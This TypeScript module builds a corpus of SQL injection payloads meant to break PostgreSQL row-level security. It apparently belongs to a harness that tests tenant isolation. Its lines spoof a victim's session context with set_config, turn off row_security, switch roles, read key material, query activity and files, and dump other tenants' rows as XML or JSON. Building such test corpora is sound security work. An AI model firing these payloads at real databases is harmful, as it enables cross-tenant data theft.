/**
 * Expressions that an attacker injects where the app expects a value. A corpus, not a proof: each line is a
 * way out that works, or once worked, where row-level security trusts its session.
 */
import type { Ground } from '../attempt.ts';
import { ofAnother, ofVictim, targets, text } from './spell.ts';

const TARGETS_MAX = 4;

export function payloads(ground: Ground): string[] {
  const victim = text(ground.victim);
  const lines = [
    'true',
    '1=1 or true',
    `current_setting('bulkhead.context', true)`,
    `current_setting('bulk' || 'head.context', true)`,
    `bulkhead.tenant_id()::text`,
    `set_config('bulkhead.context', '', true)`,
    `set_config('bulkhead.context', replace(current_setting('bulkhead.context'), ${text(ground.attacker)}, ${victim}), false)`,
    `pg_catalog.set_config('bulkhead.context', ${victim}, false)`,
    `"set_config"('bulkhead.context', ${victim}, false)`,
    `U&"set\\005fconfig"('bulkhead.context', ${victim}, true)`,
    `set_config('row_security', 'off', false)`,
    `set_config('search_path', 'pg_temp, public', false)`,
    `set_config('session_replication_role', 'replica', false)`,
    `(select string_agg(kid || encode(ipad, 'hex') || encode(opad, 'hex'), ',') from bulkhead.context_key)`,
    `(select string_agg(query, ',') from pg_stat_activity)`,
    `(select string_agg(statement, ',') from pg_prepared_statements)`,
    `(select string_agg(s::text, ',') from pg_stats s where schemaname not in ('pg_catalog', 'information_schema'))`,
    `(select string_agg(setting, ',') from pg_settings where name like '%.%')`,
    `database_to_xml(true, true, '')::text`,
    `schema_to_xml('public', true, true, '')::text`,
    `pg_read_file('PG_VERSION')`,
    `lo_get(16384)::text`,
    `setseed(0.5)::text`,
    `pg_backend_pid()::text || inet_server_addr()::text`,
    ...ground.survey.contextSettings.flatMap((name) => [
      `set_config(${text(name)}, ${victim}, true)`,
      `set_config(${text(name)}, '', false)`,
    ]),
    ...ground.survey.roles.slice(0, 6).map((role) => `set_config('role', ${text(role)}, false)`),
    ...[...ground.tokens.values()].map(
      (token) => `set_config('bulkhead.context', ${text(token)}, true)`,
    ),
  ];
  for (const target of targets(ground, TARGETS_MAX)) {
    const foreign = ofVictim(ground, target);
    lines.push(
      `(select string_agg(t::text, ',') from ${target.sql} t where ${foreign})`,
      `(select t::text from ${target.sql} t where ${ofAnother(ground, target)} limit 1)::int`,
      `query_to_xml(${text(`select * from ${target.sql}`)}, true, true, '')::text`,
      `table_to_xml(${text(target.sql)}, true, true, '')::text`,
      `(with c as materialized (select set_config('bulkhead.context', ${victim}, true)) select string_agg(t::text, ',') from c, ${target.sql} t)`,
      `(select string_agg(x, ',') from (select set_config('bulkhead.context', '', true) || t::text as x from ${target.sql} t where ${foreign}) s)`,
      `(select json_object_agg(ctid::text, t) from ${target.sql} t where ${foreign})::text`,
    );
  }
  return lines;
}
